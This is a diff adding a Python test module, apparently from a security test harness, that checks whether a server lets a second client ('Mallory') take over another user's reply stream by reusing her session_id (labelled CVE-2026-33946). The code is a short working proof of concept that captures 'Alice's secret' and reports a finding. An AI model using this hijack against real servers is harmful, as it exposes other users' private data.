@@ -1,0 +1,36 @@
+"""Steals: the replies to Alice's requests, by asking for her stream.
+
+A client that has lost its connection may want to go on with its session. If the id is all that
+a server asks for, anybody who knows it gets the stream as well: from then on the replies to
+Alice go to one of the two.
+"""
+
+from contextlib import suppress
+
+from attacks.finding import Finding
+from attacks.target import Server, call
+
+AGAINST = "server"
+CASE = "CVE-2026-33946"
+CALLS = 3
+
+
+async def attack(server: Server) -> Finding:
+    async with server.open(server.alice) as alice:
+        await alice.initialize()
+        query = f"?session_id={alice.session_id}"
+        async with server.open(server.mallory, query) as mallory:
+            with suppress(TimeoutError):
+                await mallory.endpoint()
+            for number in range(CALLS):
+                await alice.send(call(f"private-{number}", "echo", message="Alice's secret"))
+            try:
+                for number in range(CALLS):
+                    await alice.reply(f"private-{number}", seconds=0.5)
+            except TimeoutError:
+                stolen = await mallory.next(lambda event: "Alice's secret" in event.data)
+                return Finding(True, f"on Mallory's stream: {stolen.data[-49:]}")
+            if any("Alice's secret" in event.data for event in mallory.events):
+                return Finding(True, "Mallory's stream shows a copy of Alice's replies")
+            whose = "the same" if mallory.session_id == alice.session_id else "another"
+            return Finding(False, f"Mallory got {whose} session, Alice all {CALLS} replies")
